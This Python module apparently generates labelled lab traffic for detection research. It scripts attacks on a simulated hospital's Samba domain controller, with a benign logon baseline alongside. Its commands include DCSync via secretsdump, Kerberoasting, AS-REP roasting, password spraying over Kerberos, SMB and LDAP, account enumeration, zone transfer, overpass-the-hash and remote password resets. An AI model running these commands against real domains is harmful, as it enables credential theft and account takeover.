"""Attacks on a Samba domain controller by impacket, rpcclient, hydra and Kerberos itself."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from sample_pcaps.hospital import DOMAIN, HOSTS
from sample_pcaps.lab.domain import (
    NEEDS,
    PASSWORD,
    SERVICES,
    USER_PASSWORD,
    USERS,
    domain_controller,
    kerberos,
)
from sample_pcaps.lab.story import SPAN, Stage, Story, Truth

_DC = HOSTS["DC1"]
_ATTACKER = HOSTS["NUTRI-PC2"]
_EXAMPLES = Path("/usr/share/doc/python3-impacket/examples")
IMPACKET = f"{_EXAMPLES}/secretsdump.py:python3-impacket"


def impacket(name: str, *words: str) -> tuple[str, ...]:
    """The command line of one of impacket's example programs."""
    return ("/usr/bin/python3", str(_EXAMPLES / f"{name}.py"), *words)


def _truth(what: str, *techniques: str) -> Truth:
    return Truth(what, techniques, _ATTACKER.ip, (_DC.ip,), (SPAN,))


def _attack(
    what: str, techniques: tuple[str, ...], *commands: tuple[str, ...]
) -> Callable[[Stage], None]:
    def run(stage: Stage) -> None:
        domain_controller(stage["DC1"])
        attacker = stage[_ATTACKER.name]
        attacker.write("users", "\n".join(USERS) + "\n")
        attacker.write("services", "\n".join(SERVICES) + "\n")
        with stage.happens(_truth(what, *techniques)):
            for words in commands:
                environment = {} if "python3" in words[0] else kerberos(attacker)
                told = attacker.run(*words, check=False, timeout_s=60, environment=environment)
                stage.note(f"{Path(words[1]).name if 'python3' in words[0] else words[0]}: "
                           f"{told.strip()[-160:]}")  # fmt: skip

    return run


_ADMIN = f"{DOMAIN}/administrator:{PASSWORD}@{_DC.ip}"
_USER = f"{DOMAIN}/{USERS[4]}:{USER_PASSWORD}"
_RPC = ("rpcclient", "-U", f"{USERS[4]}%{USER_PASSWORD}", _DC.ip, "-c")
_LDAP = ("ldapsearch", "-x", "-H", f"ldap://{_DC.ip}", "-D", f"{USERS[4]}@{DOMAIN}", "-w",
         USER_PASSWORD, "-b", ",".join(f"DC={part}" for part in DOMAIN.split(".")))  # fmt: skip
_SPRAY = (
    "for user in $(cat users) nobody1 nobody2; do echo Winter2026 | kinit $user; sleep 0.2; done"
)
_SPRAY_SMB = (
    f"for user in $(cat users); do smbclient -U $user%Winter2026 //{_DC.ip}/sysvol -c ls; done"
)
_SPRAY_LDAP = (
    f"for user in $(cat users); do ldapwhoami -x -H ldap://{_DC.ip} -w Winter2026 "
    f"-D $user@{DOMAIN}; done"
)
_GUESS = "for n in $(seq 25); do echo Guess$n | kinit administrator; done"

#: name, what happens, techniques, commands.
_ATTACKS: tuple[tuple[str, str, tuple[str, ...], tuple[tuple[str, ...], ...]], ...] = (
    ("dcsync", "secretsdump copies all password data (DCSync)", ("T1003.006",),
     (impacket("secretsdump", "-just-dc", _ADMIN),)),
    ("kerberoast", "GetUserSPNs asks for service tickets to crack", ("T1558.003",),
     (impacket("GetUserSPNs", "-usersfile", "services", "-dc-ip", _DC.ip, _USER),)),
    ("asrep-roast", "GetNPUsers asks for accounts without pre-authentication", ("T1558.004",),
     (impacket("GetNPUsers", f"{DOMAIN}/", "-usersfile", "users", "-dc-ip", _DC.ip, "-no-pass"),)),
    ("spray-kerberos", "one password tried on twelve accounts by Kerberos", ("T1110.003",),
     (("sh", "-c", _SPRAY),)),
    ("guess-kerberos", "25 passwords tried on one account by Kerberos", ("T1110.001",),
     (("sh", "-c", _GUESS),)),
    ("spray-smb", "one password tried on ten accounts by SMB (smbclient)", ("T1110.003",),
     (("sh", "-c", _SPRAY_SMB),)),
    ("spray-ldap", "one password tried on ten accounts by LDAP (ldapwhoami)", ("T1110.003",),
     (("sh", "-c", _SPRAY_LDAP),)),
    ("enumerate-rpc", "rpcclient lists accounts, groups, policy", ("T1087", "T1069", "T1135"),
     ((*_RPC, "enumdomusers;enumdomgroups;querygroupmem 0x200;queryuser 0x1f4;getdompwinfo;"
       "netshareenum;lsaquery;lookupnames administrator"),)),
    ("enumerate-sam", "samrdump lists all accounts", ("T1087",),
     (impacket("samrdump", f"{_USER}@{_DC.ip}"),)),
    ("enumerate-sids", "lookupsid walks through all RIDs", ("T1087", "T1069"),
     (impacket("lookupsid", f"{_USER}@{_DC.ip}"),)),
    ("enumerate-ldap", "ldapsearch asks for all persons, administrators, service accounts",
     ("T1087.002",),
     tuple((*_LDAP, f"({wanted})", "sAMAccountName", "description") for wanted in
           ("&(objectCategory=person)(objectClass=user)", "adminCount=1",
            "servicePrincipalName=*"))),
    ("zone-transfer", "dig asks for the whole zone", ("T1087", "T1590", "T1018"),
     (("dig", "+time=2", f"@{_DC.ip}", DOMAIN, "AXFR"),)),
    ("overpass", "a ticket asked for with an RC4 hash only", ("T1550.002", "T1558", "T1550"),
     (impacket("getTGT", f"{DOMAIN}/{USERS[5]}", "-dc-ip", _DC.ip, "-hashes",
               ":00000000000000000000000000000001"),)),
    ("reset-password", "an account's password is set remotely", ("T1098", "T1531"),
     ((*_RPC[:2], f"administrator%{PASSWORD}", _DC.ip, "-c",
       f"setuserinfo2 {USERS[6]} 24 Nusumi-2026"),)),
    ("add-computer", "addcomputer makes a machine account", ("T1136.002", "T1136"),
     (impacket("addcomputer", "-computer-name", "LABX$", "-computer-pass", "Lab-Comp-2026",
               "-dc-ip", _DC.ip, "-method", "SAMR",
               f"{DOMAIN}/administrator:{PASSWORD}"),)),
)  # fmt: skip


def logon_day(stage: Stage) -> None:
    """The benign twin: people log on, read the policy share, mistype a password once, work."""
    domain_controller(stage["DC1"])
    for number, name in enumerate(("EMR-3E-01", "EMR-3E-02")):
        terminal = stage[name]
        environment = kerberos(terminal)
        for user in USERS[4 + number * 3 : 7 + number * 3]:
            terminal.run("kinit", user, given="Machigai\n", check=False, environment=environment)
            terminal.run("kinit", user, given=f"{USER_PASSWORD}\n", environment=environment)
            terminal.run("smbclient", f"//{_DC.ip}/sysvol", "-U", f"{user}%{USER_PASSWORD}",
                         "-c", "recurse;ls", environment=environment)  # fmt: skip
            terminal.run("dig", "+time=2", f"@{_DC.ip}", f"dc1.{DOMAIN}")


_NEEDS = (*NEEDS, IMPACKET, "rpcclient:smbclient", "ldapwhoami:ldap-utils", "dig:bind9-dnsutils")
STORIES = (
    *(
        Story(
            f"ad-{name}",
            what,
            _attack(what, techniques, *commands),
            _NEEDS,
            ("DC1", _ATTACKER.name),
            is_short=False,
            limit_s=200,
        )
        for name, what, techniques, commands in _ATTACKS
    ),
    Story("benign-logons", "People log on, mistype, and work", logon_day,
          (*NEEDS, "smbclient:smbclient", "dig:bind9-dnsutils"), ("DC1", "EMR-3E-01", "EMR-3E-02"),
          is_short=False, is_benign=True, limit_s=200),
)  # fmt: skip
